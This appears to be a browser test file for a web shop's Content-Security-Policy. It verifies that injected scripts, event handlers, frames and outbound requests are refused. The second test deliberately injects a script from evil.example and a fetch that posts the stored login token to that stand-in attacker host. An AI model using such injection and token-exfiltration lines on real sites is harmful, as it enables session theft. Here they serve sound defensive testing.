import { shopUrl } from '@pulsecart/dev/test/browser';
import { expect, it } from 'vitest';
import { demoShopper, newShopper, openPage, register, sendRegistration, signIn } from './support/users.ts';

const policyOf = async (path: string): Promise<string> => (await fetch(`${shopUrl()}${path}`)).headers.get('content-security-policy') ?? '';

it('the shop’s own inline scripts are allowed by their hashes, and nothing else is inline', async () => {
  const response = await fetch(shopUrl());
  const policy = response.headers.get('content-security-policy') ?? '';
  const shell = await response.text();
  const inline = [...shell.matchAll(/<script(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/g)].map(([, script = '']) => script);
  const scriptSources = /script-src ([^;]+)/.exec(policy)?.[1] ?? '';
  expect(scriptSources.match(/'sha256-/g) ?? []).toHaveLength(inline.length);
  expect(scriptSources).not.toMatch(/unsafe|\*|http:|data:|blob:/);
  expect(shell).not.toMatch(/\son\w+=/);
  expect(await policyOf('/dashboard/profile')).toBe(policy);
  expect(policy).toContain("default-src 'none'");
  expect(response.headers.get('cross-origin-opener-policy')).toBe('same-origin-allow-popups');

  const { page, pageErrors } = await openPage();
  for (const path of ['/', '/products', '/login', '/register', '/contact']) {
    await page.goto(path);
    await page.getByRole('main').waitFor();
  }
  await signIn(page, demoShopper);
  await page.goto('/dashboard/orderTrack');
  await page.getByRole('heading', { name: 'Your Orders' }).waitFor();
  // A script that the policy refuses would have been complained about here.
  expect(pageErrors).toEqual([]);
});

it('a script that gets into the page does not run, and can send nothing away', async () => {
  const { page } = await openPage();
  await page.goto('/');
  await page.getByRole('main').waitFor();
  const outcome = await page.evaluate(async () => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      refused.push(`${effectiveDirective} ${blockedURI.replace(/\/$/, '')}`),
    );
    const ran = globalThis as unknown as { inlineRan?: boolean; handlerRan?: boolean };
    const script = document.createElement('script');
    script.textContent = 'globalThis.inlineRan = true';
    document.head.append(script);
    const image = document.createElement('div');
    image.innerHTML = '<img src="/media/none.png" onerror="globalThis.handlerRan = true">';
    document.body.append(image);
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/steal.js';
    document.head.append(foreign);
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
    const sent = await fetch('https://evil.example/', { method: 'POST', body: localStorage.getItem('token') ?? '' }).then(
      () => true,
      () => false,
    );
    const deadline = performance.now() + 5000;
    while (refused.length < 5 && performance.now() < deadline) await new Promise((resolve) => requestAnimationFrame(resolve));
    return { refused: refused.toSorted(), sent, inlineRan: ran.inlineRan ?? false, handlerRan: ran.handlerRan ?? false };
  });
  expect(outcome).toEqual({
    refused: [
      'connect-src https://evil.example',
      'frame-src https://evil.example',
      'script-src-attr inline',
      'script-src-elem https://evil.example/steal.js',
      'script-src-elem inline',
    ],
    sent: false,
    inlineRan: false,
    handlerRan: false,
  });
});

it.each(['/api/jwt', '/api/images', '/api/newUser'])('a registration that fails half-way, at %s, leaves nothing behind', async (path) => {
  const { page } = await openPage();
  const user = newShopper();
  await page.route(`**${path}`, (route) => route.fulfill({ status: 503, contentType: 'application/problem+json', body: '{}' }));
  await sendRegistration(page, user);
  await page.getByText('Something went wrong').first().waitFor();
  await page.unroute(`**${path}`);
  // Were anything left of the first try, the e-mail would be taken.
  await register(page, user);
  await signIn(page, user);
});
